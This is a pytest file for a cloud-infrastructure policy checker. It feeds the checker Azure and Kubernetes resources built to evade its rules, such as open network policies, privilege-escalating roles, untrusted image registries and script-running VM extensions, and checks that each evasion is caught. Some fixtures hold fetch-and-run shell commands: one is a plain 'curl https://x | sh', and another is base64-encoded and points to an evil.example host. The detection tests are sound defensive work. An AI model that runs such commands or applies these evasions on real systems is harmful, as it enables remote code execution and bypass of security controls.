"""Ways around a rule, each written in another way than the rule's own example: all are found."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from roastery.policies import tokens as t
from roastery.policies.catalogue import BY_ID
from roastery.policies.derived import expanded
from roastery.policies.evaluate import evaluate
from roastery.policies.model import DeclaredResource, DeclaredStack, StackFacts
from tests.platform.roastery.policies.rules.declared import declare, findings_of

OTHER = "/subscriptions/99999999-9999-4999-8999-999999999999/resourceGroups/rg/providers"
RBAC = "rbac.authorization.k8s.io"
OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635"
SHA = "sha256:" + "0" * 64


def network_policy(**spec: Any) -> DeclaredResource:
    return declare(t.NETWORK_POLICY, spec={"podSelector": {}, **spec})


def rule(*verbs: str, resources: tuple[str, ...], groups: tuple[str, ...] = ("",), **more: Any) -> Any:
    return {"apiGroups": list(groups), "resources": list(resources), "verbs": list(verbs), **more}


def role(*rules: Any, kind: str = t.K8S_ROLE, **more: Any) -> DeclaredResource:
    return declare(kind, metadata=more.pop("metadata", {}), rules=list(rules), **more)


def definition(**permission: Any) -> DeclaredResource:
    return declare(t.ROLE_DEFINITION, permissions=[permission])


def pod(image: str, kind: str = t.POD) -> DeclaredResource:
    return declare(kind, spec={"containers": [{"name": "c", "image": image}]})


def script(**settings: Any) -> dict[str, Any]:
    return {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "settings": settings}


def chart(**values: Any) -> DeclaredResource:
    return declare(t.RELEASE, chart="oci://crbeans.azurecr.io/helm/x", version="1.0.0", values=values)


APPROVAL = {"ruleType": "RoleManagementPolicyApprovalRule", "setting": {"isApprovalRequired": False}}
ANYWHERE = {"ipBlock": {"cidr": "0.0.0.0/0"}}
DODGES: list[tuple[str, DeclaredResource]] = [
    ("network-policy-open", network_policy(ingress=[{}])),
    ("network-policy-open", network_policy(ingress=[{"from": []}])),
    ("network-policy-open", network_policy(ingress=[{"ports": [{"port": 80}]}])),
    ("network-policy-open", network_policy(ingress=[{"from": [{"namespaceSelector": {}}]}])),
    ("network-policy-open", network_policy(egress=[{"to": [ANYWHERE]}])),
    ("network-policy-open", network_policy(egress=[{"to": [ANYWHERE], "ports": [{"port": 22}]}])),
    (
        "network-policy-open",
        network_policy(egress=[{"to": [ANYWHERE], "ports": [{"port": 443, "endPort": 65535}]}]),
    ),
    (
        "network-policy-open",
        network_policy(
            egress=[
                {"to": [{"ipBlock": {"cidr": "0.0.0.0/1"}}]},
                {"to": [{"ipBlock": {"cidr": "128.0.0.0/1"}}]},
            ]
        ),
    ),
    (
        "network-policy-open",
        declare("kubernetes:extensions/v1beta1:NetworkPolicy", spec={"ingress": [{}]}),
    ),
    ("role-escalation", definition(actions=["Microsoft.Authorization/roleAssignments/write"])),
    ("role-escalation", definition(actions=["Microsoft.Authorization/*/Write"])),
    ("role-escalation", definition(actions=["*/listKeys/action"])),
    ("role-escalation", definition(actions=["Microsoft.Search/searchServices/listAdminKeys/action"])),
    ("role-escalation", definition(actions=["*"], notActions=["Microsoft.Authorization/roleAssignments/*"])),
    ("role-escalation", definition(actions=["Microsoft.Compute/virtualMachines/*/action"])),
    ("role-escalation", definition(dataActions=["Microsoft.KeyVault/vaults/secrets/getSecret/action"])),
    ("role-privileged", declare(t.ELIGIBILITIES[0], roleDefinitionId=f"/x/{OWNER}", scope="/a")),
    ("role-privileged", declare(t.ELIGIBILITIES[1], properties={"roleDefinitionId": f"/x/{OWNER.upper()}"})),
    ("role-privileged", declare(t.SCHEDULED_ROLES[1], roleDefinitionId=f"/x/{OWNER}")),
    (
        "role-activation",
        declare(
            t.ACTIVATION,
            rules=[APPROVAL],
        ),
    ),
    ("network-foreign", declare(t.PEERING, remoteVirtualNetwork={"id": f"{OTHER}/virtualNetworks/v"})),
    (
        "network-foreign",
        declare(
            t.NETWORK,
            virtualNetworkPeerings=[{"remoteVirtualNetwork": {"id": f"{OTHER}/virtualNetworks/v"}}],
        ),
    ),
    ("data-foreign", declare(t.REPLICATION, destinationAccount=f"{OTHER}/storageAccounts/theirs")),
    ("data-foreign", declare("azure-native_storage_v20230101:storage:ObjectReplicationPolicy",
                             destinationAccount="theirs")),
    (
        "stream-foreign",
        declare(t.ENDPOINT, manualPrivateLinkServiceConnections=[{"privateLinkServiceId": f"{OTHER}/s/s"}]),
    ),
    ("stream-foreign", declare(t.DIAGNOSTICS, eventHubAuthorizationRuleId=f"{OTHER}/namespaces/n")),
    ("image-registry", pod(f"docker.io/library/python@{SHA}")),
    ("image-registry", pod(f"python@{SHA}")),
    ("image-registry", pod(f"crbeans.azurecr.io.evil.example/python@{SHA}")),
    ("image-registry", declare(t.ML_ENVIRONMENT, properties={"image": f"ghcr.io/a/b@{SHA}"})),
    ("image-registry", declare(t.POD, spec={"initContainers": [{"image": f"quay.io/a/b@{SHA}"}]})),
    ("image-registry", declare("kubernetes:apps/v1beta2:ReplicaSet", spec={"template": {"spec": {
        "containers": [{"image": f"quay.io/a/b@{SHA}"}]}}})),
    ("image-registry", chart(image={"registry": "docker.io", "repository": "a/b"})),
    ("image-registry", chart(sidecar={"image": "ghcr.io/a/b:1"})),
    ("nested-template", declare("azure-native:resources:Deployment", properties={"templateLink": {}})),
    ("nested-template", declare("azure-native:resources/v20240301:DeploymentAtScope", properties={})),
    ("nested-template", declare("azure-native:resources:Resource", resourceType="servers")),
    ("nested-template", declare("azure-native:resources:AzureCliScript")),
    ("nested-template", declare("azure:storage/account:Account")),
    ("nested-template", declare("command:local:Command", create="az role assignment create")),
    ("nested-template", declare("kubernetes:yaml/v2:ConfigGroup", files=["https://x/y.yaml"])),
    ("nested-template", declare("kubernetes:kustomize/v2:Directory", directory="x")),
    ("chart-exposure", chart(service={"type": "LoadBalancer"})),
    ("chart-exposure", chart(controller={"main": {"serviceType": "nodeport"}})),
    ("chart-exposure", chart(server={"ingress": {"enabled": True}})),
    ("chart-exposure", chart(service={"externalIPs": ["203.0.113.7"]})),
    (
        "chart-exposure",
        declare(t.EXTENSION, extensionType="vendor.ext", configurationSettings={"svc.type": "LoadBalancer"}),
    ),
    ("chart-exposure", declare(t.RELEASE, chart="x", valueYamlFiles=[{"path": "values.yaml"}])),
    ("chart-exposure", declare("kubernetes:helm.sh/v4:Chart", chart="x",
                               valueYamlFiles=[{"text": "service:\n  type: LoadBalancer\n"}])),
    ("image-registry", declare("azure-native:containerregistry:CacheRule", sourceRepository="docker.io/a/b")),
    ("image-registry", declare(t.EXTENSION, extensionType="vendor.ext",
                               configurationSettings={"app.image.repository": "docker.io/a/b"})),
    ("role-escalation", definition(actions=["Microsoft.DocumentDB/databaseAccounts/readonlykeys/action"])),
    ("service-internal", chart(extraObjects=[
        {"apiVersion": "v1", "kind": "Service", "spec": {"type": "LoadBalancer"}}])),
    ("service-internal", declare("kubernetes:core/v1:ServicePatch", spec={"type": "LoadBalancer"})),
    ("service-internal", declare("kubernetes:core/v1:ServiceList", items=[
        {"apiVersion": "v1", "kind": "Service", "spec": {"type": "LoadBalancer"}}])),
    ("service-internal", declare("kubernetes:yaml/v2:ConfigGroup",
                                 yaml="apiVersion: v1\nkind: Service\nspec: {type: NodePort}\n")),
    ("ingress-internal", declare(t.INGRESS, spec={"ingressClassName": "nginx"})),
    ("ingress-internal", declare("kubernetes:networking.k8s.io/v1beta1:Ingress", spec={})),
    ("ingress-internal", declare("kubernetes:gateway.networking.k8s.io/v1:Gateway", spec={})),
    ("service-addresses", declare(t.SERVICE, spec={"externalIPs": ["203.0.113.7"]})),
    ("service-addresses", declare(t.SERVICE, spec={"type": "ExternalName", "externalName": "x.example"})),
    ("rbac-escalation", role(rule("list", resources=("secrets",)))),
    ("rbac-escalation", role(rule("*", resources=("*",), groups=("*",)))),
    ("rbac-escalation", role(rule("create", resources=("pods/exec",)))),
    ("rbac-escalation", role(rule("get", resources=("pods/*",)), kind=t.K8S_CLUSTER_ROLE)),
    ("rbac-escalation", role(rule("get", resources=("*/exec",)))),
    ("rbac-escalation", role(rule("bind", resources=("clusterroles",), groups=(RBAC,)))),
    ("rbac-escalation", role(rule("impersonate", resources=("users",)))),
    ("rbac-escalation", role(kind=t.K8S_CLUSTER_ROLE, aggregationRule={"clusterRoleSelectors": [{}]})),
    (
        "rbac-escalation",
        role(
            kind=t.K8S_CLUSTER_ROLE,
            metadata={"labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
        ),
    ),
    (
        "rbac-escalation",
        declare("kubernetes:rbac.authorization.k8s.io/v1beta1:ClusterRolePatch",
                rules=[rule("watch", resources=("secrets",))]),
    ),
    ("rbac-binding", declare(t.K8S_BINDING, roleRef={"name": "edit"}, subjects=[])),
    (
        "rbac-binding",
        declare(t.K8S_BINDING, roleRef={"name": "x"}, subjects=[{"kind": "Group", "name": "system:masters"}]),
    ),
    ("shared-credential", declare("azure-native:containerregistry:Token")),
    ("shared-credential", declare("azure-native:eventhub/v20240101:NamespaceAuthorizationRule")),
    ("shared-credential", declare(t.K8S_SECRET, type="kubernetes.io/service-account-token")),
    ("vault-access-policy", declare(t.VAULT, properties={"accessPolicies": [{"objectId": "x"}]})),
    ("machine-extension", declare("azure-native:compute:VirtualMachineExtension",
                                  **script(commandToExecute="curl https://x | sh"))),
    ("machine-extension", declare("azure-native:compute:VirtualMachineScaleSetExtension",
                                  **script(fileUris=["https://x/y"]))),
    ("machine-extension", declare("azure-native:compute:VirtualMachineExtension",
                                  **script(script="Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g="))),
    ("machine-extension", declare(t.MACHINES, virtualMachineProfile={"extensionProfile": {"extensions": [
        {"name": "x", "type": "CustomScriptExtension", "publisher": "Microsoft.Compute"}]}})),
    ("machine-extension", declare("azure-native:compute:VirtualMachineScaleSetVMRunCommand")),
    ("kind-unproven", declare("azure-native:sql:Server")),
    ("kind-unproven", declare("kubernetes:cilium.io/v2:CiliumNetworkPolicy")),
]  # fmt: skip


@pytest.mark.parametrize(("policy", "resource"), DODGES)
def test_a_dodge_is_found(policy: str, resource: DeclaredResource) -> None:
    assert policy in findings_of(resource)


HARMLESS: list[tuple[str, DeclaredResource]] = [
    ("network-policy-open", network_policy(egress=[{"ports": [{"port": 443, "protocol": "TCP"}]}])),
    ("network-policy-open", network_policy(ingress=[{"from": [{"podSelector": {}}]}])),
    ("network-policy-open", network_policy(egress=[{"to": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]}])),
    ("role-escalation", definition(actions=["Microsoft.Storage/storageAccounts/read", "*/read"])),
    (
        "role-escalation",
        definition(actions=["Microsoft.Authorization/roleAssignments/*"],
                   notActions=["Microsoft.Authorization/*/write"]),
    ),
    ("image-registry", pod(f"mcr.microsoft.com/azureml/base@{SHA}")),
    ("chart-exposure", chart(service={"type": "ClusterIP"}, ingress={"enabled": False})),
    (
        "chart-exposure",
        chart(service={"type": "LoadBalancer", "annotations": {
            "service.beta.kubernetes.io/azure-load-balancer-internal": "true"}}),
    ),
    ("rbac-escalation", role(rule("get", resources=("secrets",), resourceNames=["tls"]))),
    ("rbac-escalation", role(rule("get", resources=("pods", "pods/log")))),
    ("machine-extension", declare("azure-native:compute:VirtualMachineExtension",
                                  publisher="x", type="AADSSHLoginForLinux")),
    ("nested-template", declare("kubernetes:yaml/v2:ConfigGroup", yaml="apiVersion: v1\nkind: ConfigMap\n")),
]  # fmt: skip


@pytest.mark.parametrize(("policy", "resource"), HARMLESS)
def test_what_is_no_dodge_is_not_found(policy: str, resource: DeclaredResource) -> None:
    assert policy not in findings_of(resource)


def test_a_component_is_no_kind_of_resource() -> None:
    component = DeclaredResource(urn="urn:pulumi:p::p::x:y:Z::c", type="x:y:Z", inputs={}, custom=False)
    assert "kind-unproven" not in findings_of(component)


def test_kind_unproven_names_type_and_urn_and_is_advice(stack: Callable[..., DeclaredStack]) -> None:
    report = evaluate(stack(declare("azure-native:sql:Server", "db")))
    finding = next(finding for finding in report.findings if finding.policy.id == "kind-unproven")
    assert "azure-native:sql:Server" in finding.message
    assert "azure-native:sql:Server::db" in finding.message
    assert not finding.blocks


def test_what_a_sensor_or_a_workflow_creates_is_judged() -> None:
    binding = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
               "metadata": {"name": "all"}, "roleRef": {"name": "cluster-admin"}, "subjects": []}  # fmt: skip
    sensor = declare(t.SENSOR, spec={"triggers": [{"template": {"k8s": {"source": {"resource": binding}}}}]})
    text = "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nroleRef: {name: admin}\n"
    workflow = declare(
        t.WORKFLOW_TEMPLATE, spec={"templates": [{"name": "x", "resource": {"manifest": text}}]}
    )
    assert "rbac-binding" in findings_of(sensor)
    assert "rbac-binding" in findings_of(workflow)
    assert (
        len(expanded(DeclaredStack([sensor, workflow], StackFacts(stack="p", environment="p"))).resources)
        == 4
    )


def test_development_may_take_images_of_charts_from_their_public_registries_and_nothing_else() -> None:
    release = chart(image={"registry": "quay.io", "repository": "a/b"})
    assert "image-registry" not in findings_of(release, environment="dev")
    assert "image-registry" in findings_of(release, environment="prod")
    assert "image-registry" in findings_of(pod(f"quay.io/a/b@{SHA}"), environment="dev")


def test_every_dodge_has_a_policy_of_the_catalogue() -> None:
    assert {policy for policy, _ in DODGES} <= set(BY_ID)
